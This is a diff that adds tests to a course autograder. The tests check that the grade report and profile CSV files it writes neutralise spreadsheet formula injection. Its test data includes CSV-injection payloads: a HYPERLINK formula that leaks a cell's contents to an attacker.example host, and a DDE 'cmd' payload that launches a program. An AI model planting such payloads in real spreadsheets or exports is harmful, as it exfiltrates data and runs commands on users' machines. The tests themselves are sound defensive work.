@@ -447,3 +447,37 @@ def test_synthetic_class_copies_hand_in_their_own_bytes(tmp_path):
     assert first.read_text().replace("# handed in by correct\n", "") == \
         second.read_text().replace("# handed in by correct-2\n", "")
     assert not (tmp_path / "submitted" / "missing_script-2" / "task2" / "train_cifar_multi_node.py").exists()
+
+
+#: Texts a spreadsheet would run as formulas (OWASP's list), and texts that must read back as they were.
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A2,"details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
+PLAIN = ["graded", "'quoted", "''=1", "", "a=1"]
+
+
+def _cells(path):
+    with open(path, newline="") as f:
+        return [cell for row in csv.reader(f) for cell in row]
+
+
+def test_a_formula_in_the_report_csv_is_neutralised_and_read_back_as_it_was(tmp_path):
+    rows = [{"student": student, "score": 1.5, "max_score": 3.0, "status": status, "seconds": 2.0,
+             "throughput_ratio": None, "scaling_ratio": -0.5, "feedback": f"first error: {status}" if i else status}
+            for i, (student, status) in enumerate(zip(FORMULAS + PLAIN, reversed(FORMULAS + PLAIN)))]
+    path = nbgrader_course.write_report(tmp_path, "task1", rows)
+    unsafe = [cell for cell in _cells(path) if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert unsafe == ["-0.5"] * len(rows), unsafe     # a number is no formula: it stays a number
+    back = nbgrader_course.read_report(tmp_path, "task1")
+    assert list(back) == FORMULAS + PLAIN
+    for row in rows:
+        assert {key: back[row["student"]][key] for key in ("status", "feedback", "score", "scaling_ratio")} == \
+            {key: row[key] for key in ("status", "feedback", "score", "scaling_ratio")}
+
+
+def test_a_formula_in_the_profile_csv_is_neutralised(tmp_path):
+    results = [{"student": student, "seconds": 10.0, "parts": [{"part": part, "seconds": 1.0, "ended": 5.0}]}
+               for student, part in zip(FORMULAS, reversed(FORMULAS))]
+    path = nbgrader_course.write_profile(tmp_path / "autograde_task1_profile.csv", results, session_start=0.0)
+    cells = _cells(path)
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    assert {f"'{formula}" for formula in FORMULAS} <= set(cells)
